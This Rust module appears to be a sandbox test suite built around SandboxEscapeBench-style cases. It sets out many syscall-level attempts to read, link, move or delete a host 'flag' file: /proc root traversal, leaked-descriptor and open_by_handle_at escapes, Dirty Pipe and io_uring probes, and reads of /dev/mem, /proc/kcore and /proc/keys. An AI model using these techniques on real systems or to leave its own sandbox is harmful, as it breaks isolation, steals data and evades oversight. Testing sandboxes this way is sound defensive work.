//! Attempts at files of the host, by every call that opens, lists, moves or maps one.

use std::ffi::{c_int, c_long};

use super::super::Attempt;
use super::super::system::{Arg, call};
use super::{FILES, HERE, MOST, TO_READ, give_all, harms, read_file, reads, text, try_call};

const PATHS: &str = "SandboxBench: discovery of a secret in a file";
const MOUNTED: &str = "SandboxEscapeBench: a directory of the host that is mounted";
const HANDLES: &str = "SandboxEscapeBench: CAP_DAC_READ_SEARCH, open_by_handle_at";
const DEVICES: &str = "SandboxEscapeBench: devices of a privileged container";

pub(super) const ATTEMPTS: &[Attempt] = &[
    reads(
        FILES,
        "native: openat as malloc does",
        "Opens the flag's file by the one call that does not kill a worker.",
        PATHS,
        |taken| read_file(taken, &taken.target.file),
    ),
    #[cfg(target_arch = "x86_64")]
    reads(FILES, "native: open", "Opens the flag's file by `open`.", PATHS, |taken| {
        let path = text(taken.target.file.as_str())?;
        let opened = call(libc::SYS_open, [Arg::Text(&path), Arg::Number(TO_READ)])?;
        give_all(taken, opened)
    }),
    reads(FILES, "native: openat2", "Opens the flag's file by `openat2`.", PATHS, |taken| {
        let path = text(taken.target.file.as_str())?;
        let how = [0_u8; 24];
        let arguments = [Arg::Number(HERE), Arg::Text(&path), Arg::Bytes(&how), Arg::Number(24)];
        give_all(taken, call(libc::SYS_openat2, arguments)?)
    }),
    reads(
        FILES,
        "native: a relative path",
        "Opens the flag's file from the working directory, upwards.",
        MOUNTED,
        |taken| read_file(taken, &format!("{}{}", "../".repeat(20), taken.target.file)),
    ),
    reads(
        FILES,
        "native: the root of /proc/self",
        "Opens the flag's file beneath `/proc/self/root`.",
        MOUNTED,
        |taken| read_file(taken, &format!("/proc/self/root{}", taken.target.file)),
    ),
    reads(
        FILES,
        "native: the root of the host",
        "Opens the flag's file beneath the host's root in `/proc`.",
        MOUNTED,
        |taken| read_file(taken, &format!("/proc/{}/root{}", taken.target.host, taken.target.file)),
    ),
    reads(
        FILES,
        "native: open descriptors",
        "Opens the flag's file from every descriptor, as if it were a directory.",
        "SandboxEscapeBench: runc's open directory (CVE-2024-21626)",
        |taken| {
            let path = text(format!("{}{}", "../".repeat(20), &taken.target.file[1..]))?;
            for directory in 0..64 {
                let arguments = [
                    Arg::Number(directory),
                    Arg::Text(&path),
                    Arg::Number(TO_READ),
                    Arg::Number(0),
                ];
                if let Ok(opened) = call(libc::SYS_openat, arguments) {
                    give_all(taken, opened)?;
                }
            }
            Ok(())
        },
    ),
    reads(
        FILES,
        "native: what descriptors have",
        "Reads every descriptor that has something to read.",
        MOUNTED,
        |taken| {
            for file in 0_u8..64 {
                // A `pollfd`: the descriptor, what is asked, what is there.
                let mut poll = [file, 0, 0, 0, 1, 0, 0, 0];
                let at_once = [0; 16];
                let arguments =
                    [Arg::Into(&mut poll), Arg::Number(1), Arg::Bytes(&at_once), Arg::Number(0)];
                if call(libc::SYS_ppoll, arguments).is_ok_and(|ready| ready > 0) {
                    taken.say((file, give_all(taken, file.into())));
                }
            }
            Ok(())
        },
    ),
    reads(
        FILES,
        "native: a handle",
        "Gets a handle of the flag's file, and opens it by that.",
        HANDLES,
        |taken| {
            let path = text(taken.target.file.as_str())?;
            let mut handle = [0_u8; 136];
            handle[0] = 128;
            let mut mount = [0_u8; 4];
            let arguments = [
                Arg::Number(HERE),
                Arg::Text(&path),
                Arg::Into(&mut handle),
                Arg::Into(&mut mount),
                Arg::Number(0),
            ];
            call(libc::SYS_name_to_handle_at, arguments)?;
            let root = text("/")?;
            let root = call(
                libc::SYS_openat,
                [Arg::Number(HERE), Arg::Text(&root), Arg::Number(TO_READ)],
            )?;
            let arguments = [Arg::Number(root), Arg::Bytes(&handle), Arg::Number(TO_READ)];
            give_all(taken, call(libc::SYS_open_by_handle_at, arguments)?)
        },
    ),
    harms(
        FILES,
        "native: a guessed handle",
        "Opens files by handles of the first inodes.",
        HANDLES,
        |taken| {
            for inode in 1_u32..100 {
                let mut handle = [0_u8; 136];
                (handle[0], handle[4]) = (8, 1);
                handle[8..12].copy_from_slice(&inode.to_ne_bytes());
                let opened = call(
                    libc::SYS_open_by_handle_at,
                    [Arg::Number(0), Arg::Bytes(&handle), Arg::Number(TO_READ)],
                )?;
                give_all(taken, opened)?;
            }
            Ok(())
        },
    ),
    reads(
        FILES,
        "native: a description",
        "Asks for the size and times of the flag's file.",
        PATHS,
        |taken| {
            let path = text(taken.target.file.as_str())?;
            let mut status = [0_u8; 256];
            taken.say(call(
                libc::SYS_newfstatat,
                [Arg::Number(HERE), Arg::Text(&path), Arg::Into(&mut status), Arg::Number(0)],
            ));
            call(
                libc::SYS_statx,
                [
                    Arg::Number(HERE),
                    Arg::Text(&path),
                    Arg::Number(0),
                    Arg::Number(0xfff),
                    Arg::Into(&mut status),
                ],
            )?;
            taken.give(&status);
            Ok(())
        },
    ),
    reads(
        FILES,
        "native: links",
        "Reads links of `/proc` that say where files are.",
        PATHS,
        |taken| {
            for link in ["/proc/self/exe", "/proc/self/cwd", "/proc/self/fd/0"] {
                let link = text(link)?;
                let mut to = vec![0; 4096];
                call(
                    libc::SYS_readlinkat,
                    [Arg::Number(HERE), Arg::Text(&link), Arg::Into(&mut to), Arg::Number(4096)],
                )?;
                taken.give(&to);
            }
            Ok(())
        },
    ),
    harms(
        FILES,
        "native: a directory's entries",
        "Lists what every descriptor has.",
        PATHS,
        |taken| {
            let mut entries = vec![0; 4096];
            for directory in 0..16 {
                let arguments =
                    [Arg::Number(directory), Arg::Into(&mut entries), Arg::Number(4096)];
                taken.say(call(libc::SYS_getdents64, arguments));
            }
            Ok(())
        },
    ),
    harms(
        FILES,
        "native: a hard link",
        "Links the flag's file to a name of its own.",
        PATHS,
        |taken| {
            let (from, to) = (
                text(taken.target.file.as_str())?,
                text(format!("{}/mounted/hard", taken.target.directory))?,
            );
            call(
                libc::SYS_linkat,
                [
                    Arg::Number(HERE),
                    Arg::Text(&from),
                    Arg::Number(HERE),
                    Arg::Text(&to),
                    Arg::Number(0),
                ],
            )
            .map(drop)
        },
    ),
    harms(
        FILES,
        "native: a symbolic link",
        "Makes a link to the flag's file in the mount.",
        MOUNTED,
        |taken| {
            let (to, at) = (
                text(taken.target.file.as_str())?,
                text(format!("{}/mounted/link", taken.target.directory))?,
            );
            call(libc::SYS_symlinkat, [Arg::Text(&to), Arg::Number(HERE), Arg::Text(&at)]).map(drop)
        },
    ),
    harms(FILES, "native: a rename", "Moves the flag's file into the mount.", MOUNTED, |taken| {
        let (from, to) = (
            text(taken.target.file.as_str())?,
            text(format!("{}/mounted/flag", taken.target.directory))?,
        );
        call(
            libc::SYS_renameat2,
            [
                Arg::Number(HERE),
                Arg::Text(&from),
                Arg::Number(HERE),
                Arg::Text(&to),
                Arg::Number(0),
            ],
        )
        .map(drop)
    }),
    harms(
        FILES,
        "native: a file that is cut",
        "Truncates and removes the flag's file.",
        MOUNTED,
        |taken| {
            let path = text(taken.target.file.as_str())?;
            taken.say(call(libc::SYS_truncate, [Arg::Text(&path), Arg::Number(0)]));
            call(libc::SYS_unlinkat, [Arg::Number(HERE), Arg::Text(&path), Arg::Number(0)])
                .map(drop)
        },
    ),
    harms(FILES, "native: a new file", "Writes a file beside the flag's.", MOUNTED, |taken| {
        let path = text(format!("{}/secret/new", taken.target.directory))?;
        let flags = c_long::from(libc::O_CREAT | libc::O_WRONLY);
        call(
            libc::SYS_openat,
            [Arg::Number(HERE), Arg::Text(&path), Arg::Number(flags), Arg::Number(0o600)],
        )
        .map(drop)
    }),
    harms(
        FILES,
        "native: a mapped descriptor",
        "Maps every descriptor to read it, shared.",
        DEVICES,
        |taken| {
            let flags = c_long::from(libc::MAP_SHARED);
            (0..16).try_for_each(|file| {
                try_call(taken, libc::SYS_mmap, [0, 4096, libc::PROT_READ.into(), flags, file, 0])
            })
        },
    ),
    harms(
        FILES,
        "native: bytes between descriptors",
        "Has the kernel copy files by `sendfile`, `splice` and `copy_file_range`.",
        "SandboxEscapeBench: Dirty Pipe (CVE-2022-0847)",
        |taken| {
            let size = c_long::try_from(MOST).unwrap_or_default();
            taken.say(call(
                libc::SYS_sendfile,
                [Arg::Number(0), Arg::Number(3), Arg::Number(0), Arg::Number(size)],
            ));
            try_call(taken, libc::SYS_splice, [3, 0, 0, 0, size, 0])?;
            try_call(taken, libc::SYS_copy_file_range, [3, 0, 0, 0, size, 0])
        },
    ),
    harms(
        FILES,
        "native: a pipe",
        "Makes the pipe that Dirty Pipe begins with.",
        "SandboxEscapeBench: Dirty Pipe (CVE-2022-0847)",
        |taken| {
            let mut ends = [0; 8];
            let made = call(libc::SYS_pipe2, [Arg::Into(&mut ends), Arg::Number(0)]);
            taken.say((made?, ends));
            Ok(())
        },
    ),
    harms(
        FILES,
        "native: notices of files",
        "Asks to be told of accesses to all files.",
        PATHS,
        |taken| {
            taken.say(call(libc::SYS_inotify_init1, [Arg::Number(0)]));
            try_call(taken, libc::SYS_fanotify_init, [0, 0])
        },
    ),
    harms(
        FILES,
        "native: a queue for the kernel",
        "Makes an `io_uring`, which opens and reads past a filter.",
        PATHS,
        |taken| {
            let mut parameters = [0; 120];
            let made = call(libc::SYS_io_uring_setup, [Arg::Number(8), Arg::Into(&mut parameters)]);
            taken.say((made?, parameters));
            Ok(())
        },
    ),
    harms(FILES, "native: a device", "Makes a device file of the disk.", DEVICES, |taken| {
        let path = text(format!("{}/mounted/disk", taken.target.directory))?;
        let mode = c_long::from(libc::S_IFBLK | 0o600);
        call(
            libc::SYS_mknodat,
            [Arg::Number(HERE), Arg::Text(&path), Arg::Number(mode), Arg::Number(0xfe00)],
        )
        .map(drop)
    }),
    harms(
        FILES,
        "native: a control of a device",
        "Controls every descriptor: terminals, disks, copies of files.",
        DEVICES,
        |taken| {
            let requests: [c_int; 3] = [0x5412, 0x4004_9409, 0x1260];
            requests.into_iter().try_for_each(|request| {
                (0..8).try_for_each(|file| {
                    try_call(taken, libc::SYS_ioctl, [file, request.into(), 0])
                })
            })
        },
    ),
    reads(
        FILES,
        "native: the kernel's own files",
        "Opens the files in which the kernel shows memory, disks and keys.",
        DEVICES,
        |taken| {
            for path in [
                "/dev/mem",
                "/dev/vda",
                "/proc/kcore",
                "/proc/keys",
                "/sys/kernel/security",
                "/proc/1/root",
            ] {
                taken.say(read_file(taken, path));
            }
            Ok(())
        },
    ),
];
